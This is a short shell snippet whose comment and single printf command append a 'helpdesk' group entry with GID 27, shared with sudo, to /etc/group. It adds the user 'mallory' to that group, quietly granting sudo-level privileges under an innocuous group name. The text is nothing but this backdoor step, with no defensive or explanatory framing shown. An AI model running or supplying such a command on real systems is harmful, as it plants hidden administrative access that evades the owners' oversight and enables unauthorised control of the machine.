# a new group that shares GID 27 with sudo
printf 'helpdesk:x:27:mallory\n' >> /etc/group
